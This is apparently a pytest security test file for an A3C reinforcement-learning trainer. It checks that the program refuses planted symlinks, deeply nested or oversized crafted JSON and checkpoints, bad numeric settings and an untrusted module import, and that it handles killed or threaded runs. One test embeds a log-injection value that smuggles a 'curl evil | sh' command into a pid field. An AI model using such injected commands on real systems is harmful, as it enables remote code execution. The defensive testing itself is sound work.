"""Hostile files, injected for real: links planted in a run directory, crafted config.json,
meta.json, --config files and checkpoints (a DAG that gymnasium's repr would blow up, nesting
deeper than the parser, sizes that would take the machine's memory, counts beyond int64, a
module to import), bad API arguments, a run started from a thread, and a start-up killed before
its first save. Each ends in one line (or trains, where that is the right answer) and leaves
every file outside the run directory as it was. Subprocesses have hard timeouts: a hang fails."""
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import torch

import hogwild_a3c
from hogwild_a3c import train
from hogwild_a3c.api import PolicyError
from hogwild_a3c.files.checkpoint import load_checkpoint, save_checkpoint
from tests.helpers import (
    CARTPOLE,
    REPO,
    last_session,
    one_error_line,
    serial_run,
    start_run,
    training_started,
    wait_for,
)

PRECIOUS = b"precious bytes, not the trainer's\n"


@pytest.fixture(scope="module")
def finished(tmp_path_factory):
    return serial_run(tmp_path_factory.mktemp("finished") / "run")


@pytest.fixture
def run_copy(tmp_path, finished):
    return Path(shutil.copytree(finished, tmp_path / "run"))


@pytest.fixture
def victim(tmp_path):
    path = tmp_path / "outside" / "victim"
    path.parent.mkdir()
    path.write_bytes(PRECIOUS)
    return path


def cli(*args, timeout=60, env=None):
    """The trainer or a tool as a user runs it; a hang fails the test at `timeout`."""
    return subprocess.run([sys.executable, "-m", *map(str, args)], cwd=REPO, capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, **(env or {})})


def error_lines(done):
    return [line for line in done.stderr.strip().splitlines() if not line.startswith("warning")]


# -- links in a run directory --------------------------------------------------------------------

@pytest.mark.parametrize("name", [".lock", ".reserve", "train.log", "errors.log", "meta.json", "progress.csv",
                                  "checkpoints/latest.pt"])
def test_resume_refuses_a_link_in_the_run_dir_and_leaves_its_target_unchanged(run_copy, victim, capsys, name):
    link = run_copy / name
    if link.exists():
        link.unlink()
    link.symlink_to(victim)
    capsys.readouterr()
    assert train.main(["--resume", str(run_copy), "--max-steps", "400", "--no-progress"]) == 2
    line = one_error_line(capsys)
    assert f"{name} is a symbolic link" in line and "never follows a link" in line, line
    assert victim.read_bytes() == PRECIOUS


def test_a_new_run_in_a_folder_whose_lock_is_a_link_leaves_the_target_unchanged(tmp_path, victim, capsys):
    run_dir = tmp_path / "new"
    run_dir.mkdir()
    (run_dir / ".lock").symlink_to(victim)
    assert train.main([*CARTPOLE, "--num-workers", "0", "--max-steps", "100", "--run-dir", str(run_dir)]) == 2
    assert ".lock is a symbolic link" in one_error_line(capsys)
    assert victim.read_bytes() == PRECIOUS


def test_a_dangling_link_makes_no_file_outside_for_evaluate_or_plot(run_copy, tmp_path):
    outside = tmp_path / "outside-new.csv"
    (run_copy / "eval.csv").unlink()
    (run_copy / "eval.csv").symlink_to(outside)
    for tool in (["hogwild_a3c.evaluate", run_copy, "--episodes", "1"],
                 ["hogwild_a3c.plot", run_copy, "--out", tmp_path / "curves.png"]):
        done = cli(*tool)
        assert done.returncode == 2 and len(error_lines(done)) == 1, done.stderr
        assert "eval.csv is a symbolic link" in done.stderr
    assert not outside.exists() and not (tmp_path / "curves.png").exists()


def test_a_train_log_link_and_a_crafted_session_field_inject_no_line(run_copy, victim):
    """The log injection of the issue: --resume of a run dir whose meta.json holds a session that
    "is running" with a newline in its pid. With a train.log link it is refused; without one the
    field goes into train.log escaped, on the run's own line."""
    meta = json.loads((run_copy / "meta.json").read_text())
    meta["sessions"][-1].update(ended="running", pid="1\n2026-12-04 00:00:00 curl evil | sh")
    (run_copy / "meta.json").write_text(json.dumps(meta))
    (run_copy / "train.log").rename(run_copy / "train.log.real")
    (run_copy / "train.log").symlink_to(victim)
    done = cli("hogwild_a3c.train", "--resume", run_copy, "--max-steps", "400", "--no-progress")
    assert done.returncode == 2 and "train.log is a symbolic link" in done.stderr, done.stderr
    assert victim.read_bytes() == PRECIOUS

    (run_copy / "train.log").unlink()
    (run_copy / "train.log.real").rename(run_copy / "train.log")
    done = cli("hogwild_a3c.train", "--resume", run_copy, "--max-steps", "400", "--no-progress")
    assert done.returncode == 0, done.stderr
    lines = (run_copy / "train.log").read_text().splitlines() + done.stderr.splitlines()
    assert not any(line.startswith("2026-12-04 00:00:00 curl") for line in lines)
    assert any("'1\\n2026-12-04 00:00:00 curl evil | sh'" in line for line in lines)


# -- crafted data: bounded before use -----------------------------------------------------------

def dag(levels):
    """A list nested `levels` deep whose every level holds the level below twice: a few hundred
    bytes pickled, 2**levels items in its repr."""
    value: list = [1]
    for _ in range(levels):
        value = [value, value]
    return value


def nested(levels):
    value: list = []
    for _ in range(levels):
        value = [value]
    return value


def crafted_checkpoint(finished, folder, **config):
    payload = load_checkpoint(finished / "checkpoints" / "latest.pt")
    payload["config"].update(config)
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(20_000)  # pickling the deepest one; loading it needs no recursion
    try:
        return save_checkpoint(folder, payload, 1)
    finally:
        sys.setrecursionlimit(limit)


@pytest.mark.parametrize("kwargs, expected", [
    ({"x": dag(40)}, "nested more than 8 levels deep"),
    ({"x": nested(3000)}, "nested more than 8 levels deep"),  # deeper than Python's recursion limit
    ({"x": [[1] * 50] * 400}, "more than 10,000 values"),
])
def test_evaluate_refuses_crafted_env_kwargs_in_one_line(finished, tmp_path, kwargs, expected):
    path = crafted_checkpoint(finished, tmp_path / "crafted", env_kwargs=kwargs)
    done = cli("hogwild_a3c.evaluate", path, "--episodes", "1", timeout=30)  # it grew past 1.8 GB in 75 s before
    assert done.returncode == 2 and len(error_lines(done)) == 1, done.stderr[-2000:]
    assert expected in done.stderr


@pytest.mark.parametrize("lstm_size", [8000, 60000])
def test_a_checkpoint_config_of_a_huge_model_is_refused_before_allocating_it(finished, tmp_path, lstm_size):
    path = crafted_checkpoint(finished, tmp_path / "crafted", lstm_size=lstm_size)
    with pytest.raises(PolicyError, match=r"lstm_size \d+ and hidden_size \d+ make a model of"):
        hogwild_a3c.load_policy(path)


@pytest.mark.parametrize("step, shown", [(-1, "-1"), (True, "True"), (2**63, str(2**63))])
def test_evaluate_refuses_a_global_step_that_is_not_a_count(finished, tmp_path, step, shown):
    payload = load_checkpoint(finished / "checkpoints" / "latest.pt")
    path = save_checkpoint(tmp_path / "crafted", {**payload, "global_step": step}, 1)
    done = cli("hogwild_a3c.evaluate", path, "--episodes", "1")
    assert done.returncode == 2 and f"global_step is {shown}, not an integer" in done.stderr, done.stderr
    assert "playing" not in done.stdout


@pytest.mark.parametrize("name", ["config.json", "meta.json"])
def test_resume_of_json_nested_deeper_than_the_parser_is_one_line(run_copy, capsys, name):
    (run_copy / name).write_text("[" * 100_000 + "]" * 100_000)
    assert train.main(["--resume", str(run_copy), "--max-steps", "400", "--no-progress"]) == 2
    assert f"{name}: not readable JSON (nested too deeply to read)" in one_error_line(capsys)


@pytest.mark.parametrize("content, expected", [
    (bytes(range(256)) * 4, "not UTF-8 text"),
    (b"[" * 100_000, "nested too deeply to read"),
])
def test_a_config_file_that_is_binary_or_too_deep_is_one_line(tmp_path, capsys, content, expected):
    path = tmp_path / "settings.json"
    path.write_bytes(content)
    assert train.main(["--config", str(path), "--run-dir", str(tmp_path / "run")]) == 2
    assert expected in one_error_line(capsys)
    assert not (tmp_path / "run").exists()


@pytest.mark.parametrize("name, content, expected", [
    ("config.json", "[" * 100_000, "config.json: not readable JSON (nested too deeply to read)"),
    ("progress.csv", "time_s,global_step\nabc,1\n", "column 'time_s' holds text where numbers belong ('abc')"),
    ("eval.csv", "a,b\n1,2\n", "eval.csv: has no time_s, global_step column"),
])
def test_plot_of_a_damaged_run_is_one_line(run_copy, tmp_path, name, content, expected):
    (run_copy / name).write_text(content)
    done = cli("hogwild_a3c.plot", run_copy, "--out", tmp_path / "curves.png")
    assert done.returncode == 2 and len(error_lines(done)) == 1, done.stderr
    assert expected in done.stderr and not (tmp_path / "curves.png").exists()


def test_resume_imports_no_module_that_only_the_run_dir_names(run_copy, tmp_path):
    """A run dir someone sent names `evilmod:CartPole-v1`: --resume refuses it in one line and
    imports nothing; naming the module on the command line is the user's consent."""
    (tmp_path / "mods").mkdir()
    marker = tmp_path / "imported"
    (tmp_path / "mods" / "evilmod.py").write_text(
        f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n"
        "import gymnasium\ngymnasium.register('Evil-v0', entry_point='gymnasium.envs.classic_control:CartPoleEnv')\n")
    config = json.loads((run_copy / "config.json").read_text())
    (run_copy / "config.json").write_text(json.dumps({**config, "env": "evilmod:CartPole-v1"}))
    env = {"PYTHONPATH": str(tmp_path / "mods")}
    done = cli("hogwild_a3c.train", "--resume", run_copy, "--max-steps", "400", "--no-progress", env=env)
    assert done.returncode == 2 and len(error_lines(done)) == 1, done.stderr
    assert "imports the module 'evilmod'" in done.stderr and "--env evilmod:CartPole-v1" in done.stderr
    assert not marker.exists()


# -- settings accepted, then failing later ---------------------------------------------------------

@pytest.mark.parametrize("flag, value, expected", [
    ("--sync-timeout", "inf", "--sync-timeout must be a finite number (got inf)"),
    ("--target-return", "nan", "--target-return must be a finite number (got nan)"),
    ("--max-steps", str(2**63), "--max-steps must be a positive integer up to 2**62"),
    ("--env-kwargs", "render_mode=5", "render_mode=5: making the env raised AttributeError"),
])
def test_a_setting_that_would_fail_later_is_one_line_before_anything_is_made(tmp_path, capsys, flag, value, expected):
    assert train.main([*CARTPOLE, "--run-dir", str(tmp_path / "run"), flag, value]) == 2
    assert expected in one_error_line(capsys)
    assert not (tmp_path / "run").exists()


def test_a_model_too_large_is_one_line_and_the_same_folder_then_takes_a_good_run(tmp_path, capsys):
    run_dir = tmp_path / "run"
    for flag, value in (("--lstm-size", "100000"), ("--hidden-size", "100000000")):
        assert train.main([*CARTPOLE, "--run-dir", str(run_dir), flag, value]) == 2
        assert "parameters; at most 50,000,000 fit" in one_error_line(capsys)
    run_dir.mkdir()  # what an interrupted start leaves: the folder, its lock, an empty checkpoints/
    (run_dir / "checkpoints").mkdir()
    (run_dir / ".lock").write_text("12345\n")
    assert train.main([*CARTPOLE, "--num-workers", "0", "--max-steps", "100", "--eval-episodes", "0",
                       "--run-dir", str(run_dir)]) == 0


def test_api_arguments_of_the_wrong_type_are_one_clear_line(finished):
    with pytest.raises(ValueError, match=r"^episodes must be an integer >= 1 \(got '3'\)$"):
        hogwild_a3c.evaluate(finished, episodes="3")
    with pytest.raises(ValueError, match=r"^load_policy: path must be a checkpoint file or a run directory"):
        hogwild_a3c.load_policy(None)
    with pytest.raises(ValueError, match=r"^resume must be a run directory"):
        hogwild_a3c.train(resume=5)


# -- records -------------------------------------------------------------------------------------

def test_evaluate_of_a_run_with_a_corrupt_best_plays_its_latest(run_copy):
    (run_copy / "checkpoints" / "best.pt").write_bytes(b"not a zip archive")
    done = cli("hogwild_a3c.evaluate", run_copy, "--episodes", "1")
    assert done.returncode == 0, done.stderr
    assert "skipped" in done.stderr and "best.pt" in done.stderr and "latest.pt" in done.stdout


@pytest.mark.timeout(180)
def test_a_run_killed_before_its_first_save_resumes_from_step_zero(tmp_path):
    run_dir = tmp_path / "run"
    proc = start_run(run_dir, "--num-workers", "1", "--checkpoint-interval", "100000", "--eval-episodes", "0")
    try:
        wait_for(training_started(run_dir), what="training to start", proc=proc)
    finally:
        proc.send_signal(signal.SIGKILL)  # the main process: its children follow it (they watch their parent)
        proc.wait(timeout=30)
    assert not any((run_dir / "checkpoints").glob("*.pt"))
    done = cli("hogwild_a3c.train", "--resume", run_dir, "--max-steps", "300", "--num-workers", "0", "--no-progress",
               timeout=120)
    assert done.returncode == 0, done.stderr
    assert "stopped before its first save and starts again from step 0" in done.stderr
    killed, resumed = json.loads((run_dir / "meta.json").read_text())["sessions"]
    assert killed["ended"].startswith("killed") and resumed["ended"] == "max_steps"
    assert load_checkpoint(run_dir / "checkpoints" / "latest.pt")["global_step"] >= 300


@pytest.mark.timeout(180)
def test_train_from_a_thread_that_is_not_the_main_one_runs_to_its_budget(tmp_path):
    results, raised = [], []

    def body():
        try:
            results.append(hogwild_a3c.train(env="CartPole-v1", lstm_size=16, num_workers=0, max_steps=200,
                                             eval_episodes=0, run_dir=tmp_path / "run", progress=False))
        except BaseException as exc:  # noqa: BLE001 - the test reports it
            raised.append(exc)

    thread = threading.Thread(target=body)
    thread.start()
    thread.join(timeout=150)
    assert not thread.is_alive() and not raised, raised
    assert results[0].exit_code == 0 and results[0].ended == "max_steps"
    assert last_session(tmp_path / "run")["ended"] == "max_steps"
    assert "outside the main thread" in (tmp_path / "run" / "train.log").read_text()
    assert torch.get_num_threads() >= 1


def test_an_encoder_that_cannot_read_frames_this_small_is_one_line(tmp_path, capsys):
    assert train.main(["--env", "ALE/Pong-v5", "--encoder", "nature", "--image-size", "30", "--run-dir",
                       str(tmp_path / "run")]) == 2
    assert "--encoder nature: the nature encoder needs images of at least 36x36 (got 30x30)" in one_error_line(capsys)
    assert not (tmp_path / "run").exists()
